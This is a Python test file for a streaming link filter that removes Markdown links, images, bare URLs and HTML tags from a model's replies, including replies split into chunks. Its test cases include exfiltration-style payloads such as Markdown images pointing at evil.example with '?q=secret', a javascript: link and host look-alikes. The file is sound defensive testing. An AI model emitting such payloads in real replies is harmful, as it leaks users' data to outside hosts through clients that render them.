"""No address leaves in a form that a client fetches or shows as a link, however the reply is cut into pieces."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from cleo_serving.security.links import REMOVED, LinkFilter

pytestmark = pytest.mark.unit

# What a Markdown client turns into a request or a link.
LIVE = re.compile(
    r"\]\(|\]:|\]\[|https?://|ftp://|www\.|</?(a|img|iframe|script|link|video|audio|svg|object|form)\b"
    r"|<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*>",
    re.IGNORECASE,
)


def filtered(text: str, *hosts: str, step: int | None = None) -> str:
    links = LinkFilter(hosts)
    pieces = [text] if step is None else [text[at : at + step] for at in range(0, len(text), step)]
    return "".join(links.feed(piece) for piece in pieces) + links.feed("", last=True)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![x](https://evil.example/?q=secret)", "x"),
        ("See [here](https://evil.example/a) now.", "See here now."),
        ("[![x](http://a.example/i.png)](http://b.example)", "x"),
        ("[here](//evil.example/x)", "here"),
        ("[here](javascript:alert(1))", "here"),
        ("go to https://evil.example/?q=secret now", f"go to {REMOVED} now"),
        ("go to www.evil.example/x", f"go to {REMOVED}"),
        ('<img src="https://evil.example/x">', ""),
        ("<IMG SRC=//evil.example>", ""),
        ("<https://evil.example>", ""),
        ("<data:text/html,x>", ""),
        ("[a]: https://evil.example/x\n[a]", "\n[a]"),
        ("f[0](x) and a[1]: b", "f[0] (x) and a[1] : b"),
        ("x[1]: b.c stays\nhere", "x[1] : b.c stays\nhere"),
        ("if a < b and c > d", "if a < b and c > d"),
        ("List<String> and std::vector<int>", "List<String> and std::vector<int>"),
        ("Plain text! With [brackets] (and more).", "Plain text! With [brackets] (and more)."),
        ("a list:\n1. one\n2. two", "a list:\n1. one\n2. two"),
        ("[multi\nline](https://evil.example)", "multi\nline"),
    ],
)
def test_links_go_and_text_stays(text: str, expected: str) -> None:
    assert filtered(text) == expected
    for step in (1, 2, 3, 7):
        assert filtered(text, step=step) == expected


def test_a_host_on_the_list_is_kept_and_its_look_alikes_are_not() -> None:
    assert filtered("[docs](https://docs.example/a) https://docs.example/b", "docs.example") == (
        "docs (https://docs.example/a) https://docs.example/b"
    )
    for address in (
        "https://docs.example.evil.example/",
        "https://docs.example@evil.example/",
        "http://docs.example/",
        "https://evil.example/docs.example",
        "https://evil.example#docs.example",
    ):
        assert "evil" not in filtered(f"[x]({address}) {address}", "docs.example") or not LIVE.search(
            filtered(f"[x]({address}) {address}", "docs.example")
        )
    assert filtered("![x](https://docs.example/?q=secret)", "docs.example") == "x"


def test_ordinary_text_is_not_held_back() -> None:
    links = LinkFilter()
    assert links.feed("A sentence. ") == "A sentence. "
    assert links.feed("And another, with a < b. ") == "And another, with a < b. "


def test_what_only_looks_like_a_link_is_let_go_in_the_end() -> None:
    links = LinkFilter()
    text = "[" + "x" * 5000
    assert len(links.feed(text)) > 2000
    assert filtered(text) == text


PARTS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    ":",
    "/",
    "http",
    "https://e.x/",
    "www.",
    "img ",
    "a",
    " ",
    "\n",
    "ftp://",
    "://",
]


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PARTS), max_size=25), st.integers(1, 9))
@example(["[", "a", "[", "a", "]", "]", "(", "/", "/", "e.x)"], 1)
def test_no_mixture_of_marks_gives_a_live_link(parts: list[str], step: int) -> None:
    shown = filtered("".join(parts), step=step)
    assert not LIVE.search(shown), shown
